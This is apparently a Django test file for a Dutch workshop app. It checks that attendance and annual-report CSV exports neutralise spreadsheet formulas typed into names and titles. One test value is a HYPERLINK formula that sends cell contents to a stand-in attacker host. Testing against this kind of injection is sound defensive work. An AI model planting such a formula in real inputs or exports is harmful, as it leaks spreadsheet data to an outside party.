"""What guests type never runs as a formula when an organiser opens an export in a spreadsheet."""

import csv
import io

from django.urls import reverse

from ateliers import reports, services

from .conftest import begin

FORMULA_NAME = '=HYPERLINK("http://aanvaller.example/?"&A1;"Klik hier")'


def register(atelier, name, email, **extra):
    return services.confirm_email(services.register(atelier, email=email, name=name, background="wijkteam", **extra))


def test_attendance_export_neutralises_formulas_typed_as_a_name(client, atelier, organiser):
    attendee = register(
        atelier, FORMULA_NAME, "formule@example.nl", wants_accreditation=True, register_numbers={"skj": "SKJ110099887"}
    )
    begin(atelier)
    services.set_attendance(attendee, True)
    client.force_login(organiser)
    response = client.get(reverse("ateliers_admin:attendance_export", args=[atelier.pk, "skj"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == "'" + FORMULA_NAME


def test_annual_report_neutralises_formulas_in_titles(make_atelier):
    make_atelier(title="+SUM(1;2) en verder")
    rows = list(csv.reader(io.StringIO(reports.report_csv()), delimiter=";"))
    titles = [row[1] for row in rows[1:]]
    assert "'+SUM(1;2) en verder" in titles
